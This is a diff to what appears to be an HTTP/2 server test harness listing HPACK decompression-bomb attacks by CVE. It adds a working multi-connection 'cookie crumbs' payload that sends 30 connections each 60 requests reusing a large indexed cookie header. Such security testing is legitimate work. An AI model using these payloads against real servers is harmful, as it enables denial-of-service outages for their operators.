@@ -32,6 +32,19 @@ const REFERENCE = 0xbe;
 export const HTTP2_BOMBS: readonly Attack[] = [
   bomb('HPACK index bomb', 'CVE-2016-6581', indexed('x', 'y'.repeat(3900)), Buffer.alloc(4000, REFERENCE)),
   bomb('cookie crumbs', 'CVE-2026-47774', indexed('cookie', 'c'.repeat(3900)), Buffer.alloc(14, REFERENCE), [4, 0]),
+  {
+    name: 'cookie crumbs on many connections',
+    known: 'CVE-2026-47774',
+    target: 'h2',
+    run: async (attacker) => {
+      const first = request(1, Buffer.concat([GET, indexed('cookie', 'c'.repeat(3900))]));
+      const again = Buffer.concat([GET, Buffer.alloc(14, REFERENCE)]);
+      const clients = await Promise.all(Array.from({ length: 30 }, () => attacker.http2(4, 0)));
+      for (const client of clients)
+        await client.send(Buffer.concat([first, ...Array.from({ length: 60 }, (_, i) => request(streamId(i + 1), again))]));
+      for (const client of clients) await settled(client);
+    },
+  },
   bomb('cookie crumbs, small ones', 'CVE-2026-47774', indexed('cookie', 'c'), Buffer.alloc(4000, REFERENCE), [4, 0]),
   bomb('discarded Host copies', 'CVE-2026-73550', indexed('host', 'a'.repeat(3900)), Buffer.alloc(4000, REFERENCE)),
   bomb('empty fields', '', indexed('x', ''), Buffer.alloc(4000, REFERENCE)),
